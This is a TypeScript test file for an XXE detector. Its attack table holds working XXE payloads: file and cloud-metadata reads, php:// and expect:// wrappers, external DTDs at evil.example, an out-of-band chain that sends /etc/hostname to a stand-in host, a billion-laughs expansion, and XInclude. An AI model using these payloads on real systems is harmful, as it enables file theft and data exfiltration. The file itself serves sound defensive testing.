import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isThreat } from '../../src/core/taxonomy.js';
import type { InspectedValue, Paranoia } from '../../src/detect/types.js';
import { mayBeXxe, xxeDetector } from '../../src/detect/xxe.js';
import { expectPrefilterSound } from './helpers.js';

const THRESHOLD = { 1: 0.7, 2: 0.5, 3: 0.3 } as const;

function fired(value: string, paranoia: Paranoia = 1): boolean {
  const input: InspectedValue = { value, location: 'body', source: 'body', profile: 'generic' };
  return xxeDetector
    .compile({ paranoia })(input)
    .some((f) => f.score >= THRESHOLD[paranoia]);
}

const ROWS: { input: string; expect: boolean; paranoia?: Paranoia; note?: string }[] = [
  {
    input: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    expect: true,
  },
  {
    input:
      '<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/"> ]><foo>&xxe;</foo>',
    expect: true,
  },
  {
    input: '<!doctype x [<!entity a public "x" "php://filter/convert.base64-encode/resource=index.php">]>',
    expect: true,
  },
  { input: '<!DOCTYPE x [<!ENTITY a SYSTEM "expect://id">]><x>&a;</x>', expect: true },
  { input: '<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><x/>', expect: true },
  {
    input:
      '<!DOCTYPE x [\n  <!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://e.example/?x=%file;\'>">\n  %eval;\n  %exfil;\n]>',
    expect: true,
  },
  {
    input:
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
    expect: true,
  },
  { input: '<!DOCTYPE note SYSTEM "http://evil.example/note.dtd"><note/>', expect: true },
  {
    input:
      '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    expect: true,
  },
  {
    input:
      "abc'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE root [ <!ENTITY % x SYSTEM \"http://e.example/\"> %x;]>'),'/l') from dual)||'",
    expect: true,
  },
  { input: 'foo!ENTITY % bar SYSTEM "http://e.example/"', expect: true },
  // benign
  { input: '<!DOCTYPE html><html><body>hi</body></html>', expect: false },
  {
    input:
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    expect: false,
  },
  {
    input: '<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><item>Tea &amp; biscuits</item></order>',
    expect: false,
  },
  { input: 'The ENTITY keyword declares an entity in a DTD', expect: false },
  {
    input:
      '<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://a.example/s.xsd"/>',
    expect: false,
  },
  {
    input:
      '<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://a.example/s.xsd"/>',
    expect: true,
    paranoia: 2,
  },
];

describe('xxe detector', () => {
  it.each(ROWS)('$input → $expect', (row) => {
    expect(fired(row.input, row.paranoia)).toBe(row.expect);
  });

  it('reports the taxonomy ids and the location', () => {
    const [f] = xxeDetector.compile({ paranoia: 1 })({
      value: ROWS[0].input,
      location: 'body',
      source: 'body',
      profile: 'generic',
    });
    expect(f).toMatchObject({
      category: 'injection',
      subtype: 'xxe',
      detector: 'xxe',
      location: 'body',
      severity: 'critical',
    });
    expect(f.fragment?.startsWith('<!ENTITY')).toBe(true);
  });

  it('never throws and always returns well-formed findings (fuzz)', () => {
    const pieces = [
      '<!DOCTYPE',
      '<!ENTITY',
      ' ',
      '%',
      'x',
      ';',
      '&',
      'SYSTEM',
      '"',
      'file://',
      '[',
      ']',
      '>',
      'xi:include',
    ];
    const arb = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc.array(fc.constantFrom(...pieces), { maxLength: 60 }).map((a) => a.join('')),
    );
    fc.assert(
      fc.property(arb, (value) => {
        for (const f of xxeDetector.compile({ paranoia: 3 })({
          value,
          location: 'body',
          source: 'body',
          profile: 'generic',
        })) {
          expect(isThreat(f.category, f.subtype)).toBe(true);
          expect(f.score).toBeGreaterThanOrEqual(0.5);
          expect(f.score).toBeLessThanOrEqual(1);
          expect((f.fragment ?? '').length).toBeLessThanOrEqual(120);
        }
      }),
      { numRuns: 400 },
    );
  });

  it('stays linear on 1 MB of repeated near-matches', () => {
    const run = xxeDetector.compile({ paranoia: 3 });
    for (const unit of ['<!ENTITY', '<!DOCTYPE x [', '<!ENTITY % a SYSTEM', '&a;', 'xi:include']) {
      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
      const t0 = performance.now();
      run({ value, location: 'body', source: 'body', profile: 'generic' });
      expect(performance.now() - t0).toBeLessThan(500);
    }
  });
});

// The prefilter rejects a value before analysis only when the analysis provably finds nothing.
describe('xxe prefilter (mayBeXxe)', () => {
  const pre = (v: string) => mayBeXxe(v);
  it('never rejects an attack row of the table above', () => {
    const attacks = ROWS.filter((row) => row.expect);
    expect(attacks.length).toBeGreaterThan(5);
    for (const row of attacks) expect(pre(row.input), row.input).toBe(true);
  });
  it('rejects typical benign values', () => {
    for (const v of ['shipping', '482913', "Pat O'Brien", 'user12@example.com', 'SKU-482913']) {
      expect(pre(v), v).toBe(false);
    }
  });
  it('rejects only values the detector reports nothing on (any profile, source, paranoia)', () => {
    const token = fc.constantFrom(
      '<!ENTITY',
      '<!DOCTYPE',
      '!',
      ':',
      'xi:include',
      'schemaLocation',
      'http://',
      ' ',
      'SYSTEM',
      '%',
      'a',
      '1',
      '<',
      '>',
    );
    expectPrefilterSound(xxeDetector, pre, token);
  });
});
